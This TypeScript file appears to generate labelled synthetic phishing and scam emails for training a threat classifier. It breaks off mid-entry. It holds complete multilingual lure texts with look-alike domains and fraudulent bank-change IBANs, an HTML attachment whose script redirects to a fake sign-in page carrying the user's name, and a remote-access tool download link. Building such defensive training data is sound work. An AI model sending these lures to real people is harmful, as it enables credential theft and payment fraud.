/**
 * Hand-written threats for stage-1 training, second batch (h/threats, after the dev/test freeze):
 * the families stage 1 still missed out of fold in h/stage1 (3) — document shares from a
 * compromised contact, government fines and refunds, app-store policy threats, telecom and energy
 * invoice look-alikes, supplier remittance changes, wrong-number and tech-support scams — and
 * other modern ones (QR codes, MFA resets, calendar invites, HTML attachments, voice messages,
 * crypto, customs fees, job tasks). Each was written on its own under an `x-s1b-` org (train only,
 * `train-only.json`); the legitimate mail of the same worlds is in `src/hand/s1b-notices.ts`.
 * Running it rewrites these messages and their label lines byte-identically and keeps every other
 * line of labels/threats.jsonl:
 *
 *   npm exec -- node corpus/modern/s1b-threats.ts
 */
import { type Entry, qrLikePng, simplePdf } from "./generate-threats.ts";
import { free, hijacked, own, PRIMARY, phish, relay, scam, spoof, writeThreatLabels } from "./threat-auth.ts";

/** A text/calendar invitation whose description carries the lure. */
function ics(uid: string, start: string, summary: string, organizer: string, description: string): string {
  return [
    "BEGIN:VCALENDAR",
    "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN",
    "VERSION:2.0",
    "METHOD:REQUEST",
    "BEGIN:VEVENT",
    `UID:${uid}`,
    `DTSTART:${start}`,
    `DTEND:${start.replace(/T(\d\d)/, (_m, h: string) => `T${String(Number(h) + 1).padStart(2, "0")}`)}`,
    `SUMMARY:${summary}`,
    `ORGANIZER;CN=${organizer}`,
    `DESCRIPTION:${description}`,
    "SEQUENCE:0",
    "STATUS:CONFIRMED",
    "END:VEVENT",
    "END:VCALENDAR",
    "",
  ].join("\r\n");
}

export const entries: Entry[] = [
  // ---- document shares from a compromised contact ----
  {
    spec: {
      org: "x-s1b-docshare-contact",
      name: "angebot-geteilt-de",
      persona: "maya",
      from: "Thomas Reinholz <t.reinholz@reinholz-elektro.de>",
      subject: "Angebot_Reinholz_2026-11.pdf wurde für Sie freigegeben",
      date: "2026-11-19T13:42:10+01:00",
      text: `Hallo,

Thomas Reinholz hat die Datei "Angebot_Reinholz_2026-11.pdf" (284 KB) für Sie freigegeben.

Datei öffnen: https://reinholzelektro-my.sharepoint-docs.net/:b:/g/personal/angebot

Zum Anzeigen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.

Mit freundlichen Grüßen
Thomas Reinholz
Reinholz Elektrotechnik GmbH`,
      html: `<div style="font-family:Segoe UI,Arial,sans-serif"><p>Thomas Reinholz hat die Datei <b>"Angebot_Reinholz_2026-11.pdf"</b> (284 KB) für Sie freigegeben.</p><p><a href="https://reinholzelektro-my.sharepoint-docs.net/:b:/g/personal/angebot" style="background:#0f6cbd;color:#fff;padding:8px 16px;text-decoration:none">Öffnen</a></p><p style="color:#666;font-size:12px">Zum Anzeigen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.</p><p>Mit freundlichen Grüßen<br>Thomas Reinholz<br>Reinholz Elektrotechnik GmbH</p></div>`,
      auth: hijacked(
        "t.reinholz@reinholz-elektro.de",
        "52.101.68.33",
        "mail-fr2deu01on2133.outbound.protection.outlook.com",
      ),
    },
    label: phish(
      "German share from a real contractor's hijacked mailbox (all authentication passes) leading to a SharePoint look-alike login",
      "de",
      "primary",
      PRIMARY,
    ),
  },
  {
    spec: {
      org: "x-s1b-docshare-contact",
      name: "documento-condiviso-it",
      persona: "elena",
      from: "Prof. Giulia Santoro <giulia.santoro@istituto-ricerche-ling.it>",
      subject: "Ti ho condiviso: bozza_finale_progetto_PRIN.pdf",
      date: "2026-11-20T09:05:31+01:00",
      text: `Cara Elena,

ti ho condiviso la bozza finale del progetto PRIN da rivedere entro venerdì.

Visualizza documento: https://onedrive-condivisione.web.app/doc/PRIN2026

Per motivi di sicurezza ti verrà chiesto di accedere con la tua email istituzionale.

Un caro saluto,
Giulia`,
      auth: hijacked(
        "giulia.santoro@istituto-ricerche-ling.it",
        "40.107.22.91",
        "mail-am6eur05on2091.outbound.protection.outlook.com",
      ),
    },
    label: phish(
      "Italian share sent from a known academic's compromised account; the 'document' is a credential page on a free web-app host",
      "it",
      "primary",
      PRIMARY,
    ),
  },
  {
    spec: {
      org: "x-s1b-docshare-contact",
      name: "factura-compartida-es",
      persona: "lucas",
      from: "Administración Reformas Duque <administracion@reformasduque.es>",
      subject: "Le han enviado un archivo seguro: Factura_Pendiente_7731.pdf",
      date: "2026-11-23T16:20:44+01:00",
      text: `Buenas tardes,

Reformas Duque le ha enviado un documento a través de un enlace seguro.

Factura_Pendiente_7731.pdf

Ver documento: https://reformasduque-my.sharefile-cloud.com/d-7731

El enlace caduca en 48 horas.

Un saludo,
Administración
Reformas Duque S.L.`,
      html: `<p>Buenas tardes,</p><p>Reformas Duque le ha enviado un documento a través de un enlace seguro.</p><p><b>Factura_Pendiente_7731.pdf</b></p><p><a href="https://reformasduque-my.sharefile-cloud.com/d-7731">https://reformasduque.sharepoint.com/Factura_Pendiente_7731.pdf</a></p><p>El enlace caduca en 48 horas.</p><p>Un saludo,<br>Administración<br>Reformas Duque S.L.</p>`,
      auth: hijacked("administracion@reformasduque.es", "185.42.12.70", "smtp.reformasduque.es"),
    },
    label: phish(
      "Spanish 'secure file' from a building contractor's hijacked mailbox; the link text shows sharepoint.com while the href is elsewhere",
      "es",
      "primary",
      PRIMARY,
    ),
  },
  {
    spec: {
      org: "x-s1b-docshare-contact",
      name: "proposal-shared-en",
      persona: "kenji",
      from: "Daniel Okoro <daniel@okoro-apps.co.uk>",
      subject: 'Daniel Okoro shared "Partnership Proposal - Q1 2027"',
      date: "2026-11-21T10:11:02+00:00",
      html: `<table width="100%" style="font-family:Arial"><tr><td><p>Hi Kenji,</p><p>As discussed, here is the partnership proposal for the app bundle. Please review and let me know your thoughts.</p><table style="border:1px solid #ddd;padding:12px"><tr><td><img src="https://okoro-apps.co.uk/pdf-icon.png" width="32" alt="PDF"> <b>Partnership Proposal - Q1 2027.pdf</b><br><a href="https://docs-view-secure.pages.dev/?u=kenji">View Document</a></td></tr></table><p>Best,<br>Daniel</p></td></tr></table>`,
      auth: hijacked("daniel@okoro-apps.co.uk", "209.85.128.47", "mail-wm1-f47.google.com"),
    },
    label: phish(
      "English lure from a past partner's hijacked Workspace account: a 'proposal' button to a pages.dev login page",
      "en",
      "primary",
      PRIMARY,
    ),
  },
  // ---- government fines and benefits ----
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "aeat-devolucion-es",
      persona: "elena",
      from: "Agencia Tributaria <notificaciones@agenciatributaria-devoluciones.com>",
      subject: "Devolución pendiente: 384,20 € — confirme sus datos bancarios",
      date: "2026-11-18T08:31:00+01:00",
      html: `<div style="font-family:Arial"><img src="https://agenciatributaria-devoluciones.com/logo_aeat.png" alt="Agencia Tributaria"><p>Estimado/a contribuyente:</p><p>Tras revisar su declaración de la Renta 2025, le corresponde una devolución de <b>384,20 €</b>. No hemos podido realizar la transferencia porque el IBAN registrado no es válido.</p><p>Actualice sus datos en un plazo de 72 horas para no perder el derecho a la devolución.</p><p><a href="https://agenciatributaria-devoluciones.com/sede/devolucion?ref=ES-88120">Acceder a la Sede electrónica</a></p></div>`,
      auth: own("agenciatributaria-devoluciones.com", "194.26.29.113"),
    },
    label: phish(
      "Spanish tax-refund phishing on a look-alike of the Agencia Tributaria asking for bank details within 72 hours",
      "es",
    ),
  },
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "jidoushazei-ja",
      persona: "kenji",
      from: "東京都主税局 <info@tax.metro.tokyo.lg.jp>",
      subject: "【重要】自動車税種別割 未納のお知らせ（差押え予告）",
      date: "2026-11-22T07:15:20+09:00",
      text: `佐藤 健二 様

令和8年度 自動車税種別割（39,500円）が納期限までに納付されておりません。

本日中に下記よりクレジットカードでお支払いください。お支払いが確認できない場合、財産の差押えを行います。

https://tokyo-zeimu-nouzei.com/pay

東京都主税局`,
      auth: spoof("tax.metro.tokyo.lg.jp", "45.131.66.20", "vps-4413.hostvds.net", "REJECT"),
    },
    label: phish(
      "Japanese car-tax phishing spoofing the Tokyo tax bureau's domain (SPF softfail, no DKIM, DMARC fail) with a seizure threat and card payment",
      "ja",
    ),
  },
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "antai-amende-fr",
      persona: "lucas",
      from: "ANTAI - Service Amendes <contact@antai-paiement-amende.fr>",
      subject: "Avis de contravention n° 4471 209 883 – majoration imminente",
      date: "2026-11-24T12:02:47+01:00",
      text: `Madame, Monsieur,

Votre véhicule a été contrôlé en excès de vitesse le 02/11/2026. Le montant de l'amende forfaitaire est de 35 €. Sans paiement sous 48 heures, l'amende sera majorée à 180 €.

Payer en ligne : https://antai-paiement-amende.fr/payer

Agence Nationale de Traitement Automatisé des Infractions`,
      html: `<p>Madame, Monsieur,</p><p>Votre véhicule a été contrôlé en excès de vitesse le 02/11/2026. Le montant de l'amende forfaitaire est de <b>35 €</b>. Sans paiement sous 48 heures, l'amende sera majorée à <b>180 €</b>.</p><p><a href="https://antai-paiement-amende.fr/payer">www.amendes.gouv.fr</a></p><p>Agence Nationale de Traitement Automatisé des Infractions</p>`,
      auth: own("antai-paiement-amende.fr", "91.208.197.14"),
    },
    label: phish(
      "French traffic-fine phishing: link text says amendes.gouv.fr, the href is a look-alike, with a 48-hour surcharge threat",
      "fr",
    ),
  },
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "caf-aide-fr",
      persona: "lucas",
      from: "Caisse d'Allocations Familiales <ne-pas-repondre@caf-droits-aide.com>",
      subject: "Vous avez droit à une aide exceptionnelle de 312,00 €",
      date: "2026-11-17T18:40:13+01:00",
      html: `<p>Bonjour,</p><p>Suite au recalcul de vos droits, une aide exceptionnelle de <b>312,00 €</b> vous a été attribuée. Pour la recevoir, vérifiez votre identité et vos coordonnées bancaires avant le 30 novembre.</p><p><a href="https://caf-droits-aide.com/verification">Recevoir mon aide</a></p><p>La Caf</p>`,
      auth: relay("sendmail-pro.eu", "185.174.100.6"),
    },
    label: phish(
      "French benefits phishing promising a CAF payment in exchange for identity and bank details",
      "fr",
    ),
  },
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "imt-coima-pt",
      persona: "lucas",
      from: "IMT - Instituto da Mobilidade <notificacoes@imt-ip-gov.pt.com>",
      subject: "Notificação: carta de condução suspensa por falta de pagamento",
      date: "2026-11-21T09:55:08+00:00",
      text: `Exmo.(a) Senhor(a),

Informamos que existe uma contraordenação rodoviária por regularizar no valor de 60,00 €. Caso não efetue o pagamento até amanhã, a sua carta de condução será suspensa.

Regularize em: https://imt-ip-gov.pt.com/regularizar

IMT, I.P.`,
      auth: own("imt-ip-gov.pt.com", "103.214.5.90"),
    },
    label: phish(
      "Portuguese driving-licence suspension phishing from a domain that only looks like .gov.pt, with a next-day deadline",
      "pt",
    ),
  },
  // ---- app-store / developer-console policy threats ----
  {
    spec: {
      org: "x-s1b-devconsole-policy",
      name: "play-console-suspension",
      persona: "kenji",
      from: "Google Play Console <policy-noreply@play-console-support.com>",
      subject: "Final warning: your app Tsuru Habit will be removed from Google Play",
      date: "2026-11-19T04:22:18+00:00",
      text: `Hi Developer,

After a review, your app Tsuru Habit (com.kenjisato.tsuru) violates the User Data policy. Unless you submit an appeal within 24 hours, the app will be removed and your developer account may be terminated.

Submit an appeal: https://play-console-support.com/appeal?pkg=com.kenjisato.tsuru

The Google Play Team`,
      html: `<div style="font-family:Roboto,Arial"><img src="https://play-console-support.com/gp.png" alt="Google Play"><p>Hi Developer,</p><p>After a review, your app <b>Tsuru Habit</b> (com.kenjisato.tsuru) violates the <a href="https://play-console-support.com/policy">User Data policy</a>. Unless you submit an appeal within <b>24 hours</b>, the app will be removed and your developer account may be terminated.</p><p><a href="https://play-console-support.com/appeal?pkg=com.kenjisato.tsuru" style="background:#01875f;color:#fff;padding:10px 18px;text-decoration:none">Submit appeal</a></p><p>The Google Play Team</p></div>`,
      auth: own("play-console-support.com", "172.94.15.8"),
    },
    label: phish(
      "developer-console phishing: a Play Console look-alike threatens app removal in 24 hours unless the developer signs in to 'appeal'",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-devconsole-policy",
      name: "appstore-kiyaku-ja",
      persona: "kenji",
      from: "Apple Developer <developer@apple-developer-program.jp.net>",
      subject: "Apple Developer Program：メンバーシップの停止について",
      date: "2026-11-24T03:10:44+09:00",
      html: `<p>佐藤 健二 様</p><p>お客様のApple Developer Programアカウントで、App Reviewガイドライン5.1.1に違反する行為が確認されました。</p><p>48時間以内に本人確認とお支払い情報の再確認を行わない場合、メンバーシップは停止され、App Storeのすべてのアプリが削除されます。</p><p><a href="https://apple-developer-program.jp.net/account/verify">developer.apple.com/account</a></p><p>Apple Developer Relations</p>`,
      auth: own("apple-developer-program.jp.net", "194.87.31.202"),
    },
    label: phish(
      "Japanese Apple Developer phishing: membership 'suspension' unless identity and payment are re-entered, link text shows developer.apple.com",
      "ja",
    ),
  },
  {
    spec: {
      org: "x-s1b-devconsole-policy",
      name: "store-listing-dmca",
      persona: "kenji",
      from: "App Store Legal <legal-notices@appstore-compliance.net>",
      subject: 'DMCA complaint against "Kumo Notes" – respond to avoid takedown',
      date: "2026-11-16T22:47:09+00:00",
      text: `Dear developer,

We received a copyright infringement notice concerning screenshots used in your App Store listing for "Kumo Notes". The complaint and evidence are in the attached file.

If you do not respond within 3 days the app will be taken down.

App Store Legal`,
      attachments: [
        {
          filename: "DMCA_Notice_Kumo_Notes.html",
          type: "text/html",
          content: `<html><head><title>Document</title></head><body><script>location.href="https://appstore-compliance.net/signin?e="+btoa("kenji")</script><p>Loading document...</p></body></html>`,
        },
      ],
      auth: own("appstore-compliance.net", "146.19.24.61"),
    },
    label: phish(
      "copyright-takedown lure to an app developer with an HTML attachment that redirects to a sign-in page",
      "en",
    ),
  },
  // ---- telecom and energy invoice look-alikes ----
  {
    spec: {
      org: "x-s1b-telecom-energy",
      name: "vodafone-rechnung-de",
      persona: "maya",
      from: "Vodafone Kundenservice <rechnung@vodafone-kundenportal.de.com>",
      subject: "Ihre Rechnung November 2026 – Lastschrift fehlgeschlagen",
      date: "2026-11-20T06:12:09+01:00",
      html: `<table width="600" style="font-family:Arial"><tr><td style="background:#e60000;color:#fff;padding:12px"><b>Vodafone</b></td></tr><tr><td><p>Hallo Maya Okafor,</p><p>die Lastschrift für Ihre Rechnung vom 15.11.2026 über <b>49,99 €</b> konnte nicht eingezogen werden. Bitte aktualisieren Sie Ihre Zahlungsdaten, sonst sperren wir Ihren Anschluss in 2 Tagen und berechnen eine Rücklastschriftgebühr.</p><p><a href="https://vodafone-kundenportal.de.com/zahlung">Zahlungsdaten aktualisieren</a></p></td></tr></table>`,
      auth: own("vodafone-kundenportal.de.com", "31.41.244.15"),
    },
    label: phish(
      "German telecom-invoice phishing on a .de.com look-alike: failed direct debit, line blocked in two days unless card details are entered",
      "de",
    ),
  },
  {
    spec: {
      org: "x-s1b-telecom-energy",
      name: "strom-rueckerstattung-de",
      persona: "maya",
      from: "E.ON Energie <service@eon.de>",
      subject: "Gutschrift aus Ihrer Jahresabrechnung: 127,40 €",
      date: "2026-11-23T19:30:00+01:00",
      text: `Guten Tag Frau Okafor,

aus Ihrer Jahresverbrauchsabrechnung ergibt sich ein Guthaben von 127,40 €. Damit wir es auszahlen können, bestätigen Sie bitte Ihre Bankverbindung und Kreditkarte:

https://eon-guthaben.online/bestaetigen

Ihr E.ON Kundenservice`,
      auth: spoof("eon.de", "80.94.95.122", "ns3152.contaboserver.net", "REJECT"),
    },
    label: phish(
      "German energy-refund phishing spoofing eon.de (DMARC fail, policy reject) asking for bank and card details to pay a 'credit'",
      "de",
    ),
  },
  {
    spec: {
      org: "x-s1b-telecom-energy",
      name: "pge-faktura-pl",
      persona: "maya",
      from: "PGE Obrót <e-faktura@pge-obrot-rozliczenia.pl>",
      subject: "Zaległa faktura za energię – wyłączenie dostaw 27.11",
      date: "2026-11-25T10:04:33+01:00",
      html: `<p>Szanowny Kliencie,</p><p>informujemy, że faktura nr 04/11/2026/EE na kwotę <b>8,79 zł</b> nie została opłacona. Jeśli płatność nie zostanie zaksięgowana do 27.11, dostawy energii elektrycznej zostaną wstrzymane.</p><p><a href="https://pge-obrot-rozliczenia.pl/blik">Zapłać BLIK-iem</a></p><p>PGE Obrót S.A.</p>`,
      auth: own("pge-obrot-rozliczenia.pl", "45.95.169.11"),
    },
    label: phish(
      "Polish energy-bill phishing: a tiny overdue amount, a power cut-off date and a BLIK payment link on a look-alike domain",
      "pl",
    ),
  },
  {
    spec: {
      org: "x-s1b-telecom-energy",
      name: "play-punkty-pl",
      persona: "maya",
      from: "Play <powiadomienia@play-punkty.com>",
      subject: "Twoje 4 820 punktów wygasa dziś – odbierz nagrodę",
      date: "2026-11-18T15:16:27+01:00",
      text: `Cześć,

Twoje punkty w programie lojalnościowym Play wygasają dziś o północy. Wymień je na słuchawki bezprzewodowe – zapłacisz tylko 1,99 zł za dostawę.

Odbierz: https://play-punkty.com/nagroda

Zespół Play`,
      auth: relay("mta-send.ru", "195.133.40.28"),
    },
    label: phish(
      "Polish telecom loyalty-points lure asking for card details for a 1.99 zł 'delivery' fee",
      "pl",
    ),
  },
  // ---- supplier remittance changes (BEC) ----
  {
    spec: {
      org: "x-s1b-remittance-bec",
      name: "bankwechsel-lieferant",
      persona: "lucas",
      from: "Contabilidade Gráfica Lusa <contabilidade@grafica-lusa.pt>",
      replyTo: "Contabilidade Gráfica Lusa <contabilidade.graficalusa@proton.me>",
      subject: "Re: Fatura FT 2026/1182 – atualização de dados bancários",
      date: "2026-11-24T11:48:00+00:00",
      text: `Bom dia Sr. Lucas,

Na sequência da auditoria anual, o nosso banco mudou. A partir de hoje as faturas devem ser pagas apenas para o novo IBAN abaixo; o anterior já não aceita transferências.

Fatura FT 2026/1182 — 1.436,40 €
IBAN: PT50 0193 0000 1050 9912 3456 7  (Banco CTT)

Agradecemos que envie o comprovativo hoje ainda para este email.

Com os melhores cumprimentos,
Departamento Financeiro
Gráfica Lusa`,
      auth: hijacked("contabilidade@grafica-lusa.pt", "185.230.63.171", "smtp.grafica-lusa.pt"),
    },
    label: scam(
      "Portuguese supplier-remittance BEC: a real supplier's mailbox announces a new IBAN for an open invoice, replies diverted to a Proton address",
      "pt",
    ),
  },
  {
    spec: {
      org: "x-s1b-remittance-bec",
      name: "remittance-update-en",
      persona: "maya",
      from: "Accounts – Brightline Hosting <accounts@brightline-hostlng.com>",
      subject: "Updated remittance details for invoice BH-40821",
      date: "2026-11-19T14:30:55+00:00",
      text: `Hello Ferrow Accounts Payable,

Please note our remittance details have changed with immediate effect following our move to a new banking partner. Kindly update your vendor master file and remit the outstanding invoice BH-40821 (EUR 18,240.00) to:

Account name: Brightline Hosting Ltd
IBAN: GB19 MONZ 0400 0461 1337 90
Reference: BH-40821

The signed letter on company paper is attached. Please confirm once the change is processed.

Kind regards,
Rachel Dunn
Credit Control`,
      attachments: [
        {
          filename: "Bank_Change_Letter.pdf",
          type: "application/pdf",
          content: simplePdf([
            "Brightline Hosting Ltd",
            "Change of bank details",
            "New IBAN GB19 MONZ 0400 0461 1337 90",
            "Signed: R. Dunn, Credit Control",
          ]),
        },
      ],
      auth: own("brightline-hostlng.com", "23.95.182.40"),
    },
    label: scam(
      "English vendor bank-change fraud from a one-letter look-alike of a hosting supplier's domain (hostlng), with a 'signed letter'",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-remittance-bec",
      name: "betalningsavi-sv",
      persona: "maya",
      from: "Ekonomi Nordvik AB <ekonomi@nordvik-ab.se>",
      subject: "Ny bankgiro för betalning av faktura 55102",
      date: "2026-11-21T08:50:02+01:00",
      text: `Hej,

Vi har bytt bank och ber er att betala faktura 55102 (42 600 SEK) till vårt nya konto i stället:

IBAN LV80 BANK 0000 4351 9500 1

Det gamla bankgirot stängs på fredag. Ring inte växeln, de har inte fått informationen ännu – svara bara på detta mejl.

Vänliga hälsningar
Ekonomiavdelningen`,
      auth: own("nordvik-ab.se", "193.56.28.103", "none"),
    },
    label: scam(
      "Swedish supplier bank-change scam: a foreign IBAN, the old account closing Friday, and 'don't call, reply here'",
      "sv",
    ),
  },
  // ---- wrong-number and tech-support scams ----
  {
    spec: {
      org: "x-s1b-wrong-number",
      name: "wrong-number-en",
      persona: "elena",
      from: "Amanda Lin <amandalin.gallery88@gmail.com>",
      subject: "Is this still Dr. Moreno's email?",
      date: "2026-11-22T21:13:40+00:00",
      text: `Hi, sorry to bother you, is this Dr. Moreno? We met at the art fair in Valencia and you gave me this email for the dinner next week.

If I have the wrong person, my apologies! You seem very kind anyway. I'm from Singapore and work in wine import, maybe we can be friends?

Amanda`,
      auth: free("amandalin.gallery88@gmail.com", "209.85.220.73"),
    },
    label: scam(
      "wrong-number opener ('pig-butchering'): a stranger 'mistakes' the reader for someone else and pivots to friendship",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-wrong-number",
      name: "machigai-ja",
      persona: "kenji",
      from: "美咲 <misaki.tanaka0712@yahoo.co.jp>",
      subject: "先日はありがとうございました",
      date: "2026-11-20T22:40:11+09:00",
      text: `山本さん、先日の食事会ではありがとうございました！写真を送りますね。

あれ、もしかして送り先を間違えてしまったでしょうか…？失礼しました。

でもこれも何かのご縁ですね。私は投資の仕事をしていて、香港と東京を行き来しています。よかったらLINEでお話しませんか？`,
      auth: free("misaki.tanaka0712@yahoo.co.jp", "182.22.12.114"),
    },
    label: scam(
      "Japanese wrong-recipient opener from free mail that pivots to 'investment work' and moving to LINE",
      "ja",
    ),
  },
  {
    spec: {
      org: "x-s1b-tech-support",
      name: "norton-renewal-en",
      persona: "elena",
      from: "Billing Department <billing.dept.4471@outlook.com>",
      subject: "Your Order #NT-558201 has been processed – USD 399.99",
      date: "2026-11-17T15:02:00+00:00",
      text: `Dear Customer,

Thank you for renewing Norton 360 Total Protection (3 years, 5 devices). USD 399.99 has been charged to your account today.

If you did not authorize this renewal, call our Cancellation Desk within 24 hours to receive a full refund:

+1 (808) 555-0147

Billing Department`,
      attachments: [
        {
          filename: "Invoice_NT-558201.pdf",
          type: "application/pdf",
          content: simplePdf([
            "INVOICE NT-558201",
            "Norton 360 Total Protection - 3 years",
            "USD 399.99",
            "To cancel call +1 (808) 555-0147",
          ]),
        },
      ],
      auth: free("billing.dept.4471@outlook.com", "40.92.19.56"),
    },
    label: scam(
      "callback tech-support scam: a fake antivirus renewal from free mail with a phone number to 'cancel'",
      "en",
      "receipt",
    ),
  },
  {
    spec: {
      org: "x-s1b-tech-support",
      name: "microsoft-support-es",
      persona: "lucas",
      from: "Soporte Técnico Windows <soporte@windows-defender-alerta.com>",
      subject: "Alerta: su equipo está infectado (código 0x80073AFF)",
      date: "2026-11-23T13:27:05+01:00",
      html: `<div style="border:3px solid #d00;padding:12px;font-family:Segoe UI"><h2 style="color:#d00">⚠ Alerta de seguridad de Windows</h2><p>Hemos detectado un troyano en su equipo que está enviando sus contraseñas bancarias. No apague el ordenador.</p><p>Llame inmediatamente al soporte técnico certificado: <b>+34 900 000 417</b></p><p>O descargue la herramienta de reparación: <a href="https://windows-defender-alerta.com/AnyDesk.exe">Reparar ahora</a></p></div>`,
      auth: own("windows-defender-alerta.com", "45.11.57.230"),
    },
    label: scam(
      "Spanish tech-support scam: a fake Windows infection alert pushing a phone call and a remote-access tool",
      "es",
      "notification",
    ),
  },
  // ---- QR codes ----
  {
    spec: {
      org: "x-s1b-quishing",
      name: "signatur-qr-de",
      persona: "maya",
      from: "DocuSeal Signatur <sign@ferrow-hr-docs.com>",
      subject: "Bitte unterschreiben: Gehaltsanpassung 2027 – Maya Okafor",
      date: "2026-11-24T08:05:19+01:00",
      html: `<p>Hallo Maya,</p><p>die Personalabteilung hat Ihnen das Dokument <b>„Gehaltsanpassung 2027"</b> zur Unterschrift gesendet.</p><p>Aus Sicherheitsgründen kann das Dokument nur auf dem Mobilgerät geöffnet werden. Scannen Sie den Code mit Ihrer Handykamera:</p><p><img src="cid:qr1" width="174" height="174" alt=""></p><p>Der Code ist 24 Stunden gültig.</p>`,
      attachments: [
        { filename: "qr.png", type: "image/png", content: qrLikePng("x-s1b-quishing:1"), cid: "qr1" },
      ],
      auth: own("ferrow-hr-docs.com", "89.117.72.40"),
    },
    label: phish(
      "German QR phishing: a 'salary adjustment' to sign that opens only by scanning an inline QR code, moving the login to the phone",
      "de",
      "notification",
      PRIMARY,
    ),
  },
  {
    spec: {
      org: "x-s1b-quishing",
      name: "parcheggio-qr-it",
      persona: "elena",
      from: "Roma Servizi per la Mobilità <multe@romamobilita-pagamenti.it>",
      subject: "Sanzione sosta non pagata – paga con il QR entro 5 giorni",
      date: "2026-11-20T11:20:41+01:00",
      text: `Gentile utente,

il suo veicolo è risultato in sosta senza ticket in Via Nazionale il 14/11/2026. Per pagare la sanzione ridotta di 29,40 € entro 5 giorni inquadri il codice QR allegato.

Roma Servizi per la Mobilità`,
      attachments: [
        { filename: "avviso_pagamento_QR.png", type: "image/png", content: qrLikePng("x-s1b-quishing:2") },
      ],
      auth: own("romamobilita-pagamenti.it", "185.216.71.98"),
    },
    label: phish("Italian parking-fine QR phishing impersonating Rome's mobility agency", "it"),
  },
  // ---- MFA resets ----
  {
    spec: {
      org: "x-s1b-mfa-reset",
      name: "authenticator-reset-en",
      persona: "maya",
      from: "Microsoft 365 Security <security@m365-authreset.com>",
      subject: "Your MFA method will be removed on 28 November",
      date: "2026-11-25T07:40:00+01:00",
      text: `Hello maya.okafor@ferrow.io,

Your organisation is retiring SMS verification. Your current authentication method will be removed on 28 November. To keep access to Outlook and Teams, register Microsoft Authenticator now:

https://m365-authreset.com/mfa/register?tenant=ferrow.io

If you do not complete registration, you will be signed out of all devices.

Microsoft 365 Security`,
      html: `<p>Hello maya.okafor@ferrow.io,</p><p>Your organisation is retiring SMS verification. Your current authentication method will be removed on <b>28 November</b>. To keep access to Outlook and Teams, register Microsoft Authenticator now.</p><p><a href="https://m365-authreset.com/mfa/register?tenant=ferrow.io">https://aka.ms/mfasetup</a></p><p>If you do not complete registration, you will be signed out of all devices.</p>`,
      auth: own("m365-authreset.com", "104.168.44.19"),
    },
    label: phish(
      "fake MFA re-registration: link text shows aka.ms/mfasetup, href a look-alike that proxies the sign-in and its second factor",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-mfa-reset",
      name: "verificacion-2pasos-es",
      persona: "elena",
      from: "Servicio de Informática UCM <soporte@ucm-es.email>",
      subject: "Reconfigure su verificación en dos pasos (obligatorio)",
      date: "2026-11-18T09:25:33+01:00",
      text: `Estimado/a usuario/a:

Por la migración del sistema de correo institucional, todos los usuarios deben volver a configurar la verificación en dos pasos antes del viernes. Introduzca su usuario, contraseña y el código que reciba por SMS en:

https://ucm-es.email/2fa

Servicio de Informática`,
      auth: own("ucm-es.email", "62.182.84.17"),
    },
    label: phish(
      "Spanish university-IT MFA-reset phishing asking for password and SMS code on a look-alike domain",
      "es",
    ),
  },
  // ---- calendar invitations ----
  {
    spec: {
      org: "x-s1b-calendar-phish",
      name: "invite-payroll-review",
      persona: "maya",
      from: "People Team <people@ferrow-payroll.com>",
      subject: "Invitation: Q4 compensation review – action required @ Fri 27 Nov 10:00",
      date: "2026-11-25T16:10:00+01:00",
      text: `You have been invited to: Q4 compensation review – action required

Fri 27 Nov 2026 10:00 – 11:00 (CET)

Before the meeting, please review and acknowledge your updated compensation letter:
https://ferrow-payroll.com/letter/maya.okafor

Accept / Decline`,
      attachments: [
        {
          filename: "invite.ics",
          type: "text/calendar; method=REQUEST",
          content: ics(
            "7c91e0a2-payroll@ferrow-payroll.com",
            "20261127T090000Z",
            "Q4 compensation review – action required",
            "People Team:mailto:people@ferrow-payroll.com",
            "Review and acknowledge your compensation letter before the meeting: https://ferrow-payroll.com/letter/maya.okafor",
          ),
        },
      ],
      auth: own("ferrow-payroll.com", "38.180.21.44"),
    },
    label: phish(
      "calendar-invite phishing: a look-alike 'People Team' invite whose description sends to a fake compensation letter login",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-calendar-phish",
      name: "convite-reuniao-pt",
      persona: "lucas",
      from: "Câmara - Urbanismo <urbanismo@cm-lisboa-licenciamento.pt>",
      subject: "Convite: Reunião sobre o processo de licenciamento 1187/2026",
      date: "2026-11-22T10:30:12+00:00",
      text: `Foi convidado para uma reunião sobre o processo de licenciamento 1187/2026.

Quinta-feira, 26 de novembro, 15:00

Antes da reunião, consulte o parecer técnico no portal (requer autenticação com as credenciais do e-mail):
https://cm-lisboa-licenciamento.pt/parecer/1187`,
      attachments: [
        {
          filename: "invite.ics",
          type: "text/calendar; method=REQUEST",
          content: ics(
            "1187-2026@cm-lisboa-licenciamento.pt",
            "20261126T150000Z",
            "Reunião processo 1187/2026",
            "Urbanismo:mailto:urbanismo@cm-lisboa-licenciamento.pt",
            "Parecer técnico: https://cm-lisboa-licenciamento.pt/parecer/1187 (entre com as credenciais do seu e-mail)",
          ),
        },
      ],
      auth: own("cm-lisboa-licenciamento.pt", "193.149.176.30"),
    },
    label: phish(
      "Portuguese calendar-invite phishing to an architect about a planning file, asking for e-mail credentials to read a 'technical opinion'",
      "pt",
    ),
  },
  // ---- HTML-attachment phishing ----
  {
    spec: {
      org: "x-s1b-html-attachment",
      name: "zahlungsavis-html-de",
      persona: "maya",
      from: "Zahlungsavis <avis@zahlungsavis-service.de>",
      subject: "Zahlungsavis 26.11.2026 – 3 Positionen",
      date: "2026-11-26T06:44:00+01:00",
      text: `Guten Morgen,

im Anhang finden Sie das Zahlungsavis zu unseren heutigen Überweisungen. Zum Öffnen bitte mit Ihrem E-Mail-Passwort bestätigen.

Freundliche Grüße
Finanzbuchhaltung`,
      attachments: [
        {
          filename: "Zahlungsavis_26112026.html",
          type: "text/html",
